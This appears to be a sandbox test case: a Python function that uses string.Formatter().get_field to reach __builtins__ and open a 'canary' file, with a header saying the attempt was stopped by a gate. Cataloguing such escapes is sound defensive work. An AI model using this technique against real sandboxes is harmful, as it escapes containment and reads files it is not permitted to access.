# /// stoilo-case
# idea = "string.Formatter"
# stopped_by = "gate"
# code = "STO-P040"
# source = "CVE-2026-76825"
# ///
import string


def run(kwargs):
    names, _ = string.Formatter().get_field("0.__builtins__", [run], {})
    return names["open"](kwargs["canary"]).read()
